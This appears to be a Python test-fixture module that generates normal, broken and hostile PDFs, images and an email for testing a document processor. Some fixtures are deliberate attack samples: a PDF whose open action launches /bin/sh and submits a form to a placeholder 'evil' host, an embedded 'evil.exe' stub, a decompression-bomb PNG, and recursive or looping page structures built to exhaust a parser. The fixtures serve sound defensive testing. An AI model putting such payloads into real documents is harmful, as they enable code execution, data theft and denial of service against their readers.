"""Documents made to do harm, or only broken: written in code, none taken from elsewhere."""

import io
import zlib
from collections.abc import Sequence

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

A4 = (595, 842)


def saved(document: pikepdf.Pdf, lock: pikepdf.Encryption | None = None) -> bytes:
    """The file of a document."""
    file = io.BytesIO()
    if lock:
        document.save(file, encryption=lock)
    else:
        document.save(file, deterministic_id=True)
    return file.getvalue()


def helvetica(document: pikepdf.Pdf) -> Dictionary:
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    return Dictionary(Font=Dictionary(F1=document.make_indirect(font)))


def drawn(document: pikepdf.Pdf, marks: bytes, size: tuple[float, float] = A4) -> pikepdf.Page:
    """A page with these marks."""
    page = document.add_blank_page()
    page.obj.MediaBox = Array([0, 0, *size])
    page.obj.Contents = document.make_stream(marks)
    page.obj.Resources = helvetica(document)
    return page


def text(line: str, at: tuple[int, int] = (50, 700)) -> bytes:
    return b"BT /F1 14 Tf %d %d Td (%s) Tj ET " % (*at, line.encode("latin-1"))


def plain(pages: int = 1, size: tuple[float, float] = A4, lines: int = 1) -> bytes:
    """An honest document: text on each page."""
    document = pikepdf.new()
    for n in range(pages):
        drawn(
            document,
            b"".join(
                text(f"Page {n + 1}, ligne {y + 1} : dix palettes livrees", (50, int(size[1]) - 40 - 16 * y))
                for y in range(lines)
            ),
            size,
        )
    return saved(document)


def of_many_pages(count: int) -> bytes:
    """One page, many times."""
    document = pikepdf.new()
    page = drawn(document, text("encore"))
    for _ in range(count - 1):
        document.pages.append(page)
    return saved(document)


def locked(user: str = "secret", owner: str = "maitre") -> bytes:
    document = pikepdf.new()
    drawn(document, text("confidentiel"))
    return saved(document, pikepdf.Encryption(user=user, owner=owner))


def with_javascript() -> bytes:
    """Opens, launches, submits, and asks for a form of XFA, on opening."""
    document = pikepdf.new()
    page = drawn(document, text("piege"))
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1); this.submitForm({cURL: 'evil'});"))
    launch = Dictionary(S=Name.Launch, F=String("/bin/sh"), Next=script)
    document.Root.OpenAction = launch
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))
    document.Root.AA = Dictionary(WC=launch)
    document.Root.AcroForm = Dictionary(XFA=document.make_stream(b"<xdp><script>x</script></xdp>"), Fields=Array([]))
    page.obj.AA = Dictionary(O=launch)
    document.attachments["evil.exe"] = b"MZ"
    return saved(document)


def annotated() -> bytes:
    """A black square that is an annotation, such as the mark of a signature."""
    document = pikepdf.new()
    page = drawn(document, b"")
    look = document.make_stream(b"0 g 0 0 200 200 re f")
    look.update({"/Type": Name.XObject, "/Subtype": Name.Form, "/BBox": Array([0, 0, 200, 200])})
    mark = Dictionary(Type=Name.Annot, Subtype=Name.Stamp, Rect=Array([100, 100, 300, 300]), AP=Dictionary(N=look), F=4)
    page.obj.Annots = Array([document.make_indirect(mark)])
    return saved(document)


def with_image(width: int, height: int) -> bytes:
    """A small file that holds a huge image of one colour."""
    document = pikepdf.new()
    page = drawn(document, b"500 0 0 700 40 40 cm /I Do")
    squeeze = zlib.compressobj(6)
    row = b"\x40" * width
    data = b"".join(squeeze.compress(row) for _ in range(height)) + squeeze.flush()
    image = pikepdf.Stream(document, data)
    image.update({
        "/Type": Name.XObject, "/Subtype": Name.Image, "/Width": width, "/Height": height, "/BitsPerComponent": 8,
        "/ColorSpace": Name.DeviceGray, "/Filter": Name.FlateDecode,
    })  # fmt: skip
    page.obj.Resources.XObject = Dictionary(I=document.make_indirect(image))
    return saved(document)


def turned_and_cropped() -> bytes:
    """Landscape once turned: of 600 × 400 points, 300 × 200 are kept, with a black corner at the top left as it is read."""
    document = pikepdf.new()
    page = drawn(document, b"0 g 100 100 50 50 re f", (400, 600))
    page.obj.CropBox = Array([100, 100, 300, 400])
    page.obj.Rotate = 90
    return saved(document)


def looped() -> bytes:
    """A tree of pages that is its own branch."""
    return _raw(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
        ]
    )


def without_pages() -> bytes:
    return _raw([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>"])


def never_done() -> bytes:
    """A page whose marks call each other, ten at a time, for ever so long."""
    calls = b" ".join(b"/X Do" for _ in range(12))
    objects = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"]
    objects.append(
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>"
    )
    objects.append(_stream(b"", calls))
    for n in range(5, 14):
        form = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</X %d 0 R>>>>" % (n + 1)
        objects.append(_stream(form, calls))
    objects.append(_stream(b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]", b"0 0 500 800 re f " * 3000))
    return _raw(objects)


def _stream(more: bytes, data: bytes) -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (more, len(data), data)


def _raw(objects: Sequence[bytes]) -> bytes:
    out, places = bytearray(b"%PDF-1.4\n"), []
    for n, each in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj%s endobj\n" % (n, each)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    start = len(out)
    return bytes(out) + b"xref\n0 %d\n0000000000 65535 f \n%strailer<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(places) + 1, table, len(places) + 1, start,
    )  # fmt: skip


# Images


_WHITE_AND_BLACK: dict[str, tuple[int | tuple[int, ...], int | tuple[int, ...]]] = {
    "1": (1, 0),
    "CMYK": ((0, 0, 0, 0), (0, 0, 0, 255)),
    "I;16": (65_535, 0),
    "L": (255, 0),
    "RGB": ((255, 255, 255), (0, 0, 0)),
    "RGBA": ((0, 0, 0, 0), (0, 0, 0, 255)),
}


def picture(kind: str, size: tuple[int, int] = (400, 300), mode: str = "L", turn: int = 0, dpi: int = 96) -> bytes:
    """An image on white with a black top left quarter; `turn` is how the camera says it was held."""
    white, black = _WHITE_AND_BLACK[mode]
    image = Image.new(mode, size, white)
    image.paste(black, (0, 0, size[0] // 2, size[1] // 2))
    exif = Image.Exif()
    if turn:
        exif[274] = turn
    file = io.BytesIO()
    image.save(file, kind, exif=exif, dpi=(dpi, dpi))
    return file.getvalue()


def photograph(size: tuple[int, int] = (400, 300)) -> bytes:
    """A JPEG in colours of which nothing is plain."""
    file = io.BytesIO()
    Image.merge("RGB", [Image.effect_noise(size, spread) for spread in (90, 60, 30)]).save(file, "JPEG", dpi=(96, 96))
    return file.getvalue()


def scan(pages: int) -> bytes:
    """A TIFF of several black and white pages, as a fax or a scanner makes it."""
    sheets = [Image.new("1", (850, 1100), 1) for _ in range(pages)]
    for n, sheet in enumerate(sheets):
        sheet.paste(0, (100, 100 * (n + 1), 700, 100 * (n + 1) + 20))
    file = io.BytesIO()
    sheets[0].save(file, "TIFF", save_all=True, append_images=sheets[1:], compression="group4", dpi=(100, 100))
    return file.getvalue()


def bomb(width: int = 40_000, height: int = 40_000) -> bytes:
    """A PNG of a few kilobytes that says it is enormous."""
    honest = picture("PNG", (8, 8))
    header = b"IHDR" + width.to_bytes(4, "big") + height.to_bytes(4, "big") + honest[24:29]
    return honest[:12] + header + zlib.crc32(header).to_bytes(4, "big") + honest[33:]


def coloured() -> bytes:
    """A light blue square above a red one."""
    document = pikepdf.new()
    drawn(document, b"0.6 0.8 1 rg 100 600 200 200 re f 1 0 0 rg 100 100 200 200 re f")
    return saved(document)


# Messages

#: Two senders, two parts that say the same, an attachment and a message within the message.
MESSAGE = """\
From: =?utf-8?q?Ren=C3=A9?= <rene@t.example>
To: x@y.example
from: autre@t.example
Date: Tue, 3 Mar 2026 10:00:00 +0100
Subject: =?iso-8859-1?q?=C9ch=E9ance_du?=
 1er mars
Message-ID: <1@t.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: multipart/alternative; boundary=c

--c
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Bonjour,

œuvre : 1 200 €
--c
Content-Type: text/html

<p>Bonjour</p>
--c--
--b
Content-Type: application/pdf
Content-Disposition: attachment; filename*=utf-8''relev%C3%A9.pdf
Content-Transfer-Encoding: base64

AAAA
--b
Content-Type: message/rfc822

From: z@z.example
To: b

dedans
--b--
""".encode()
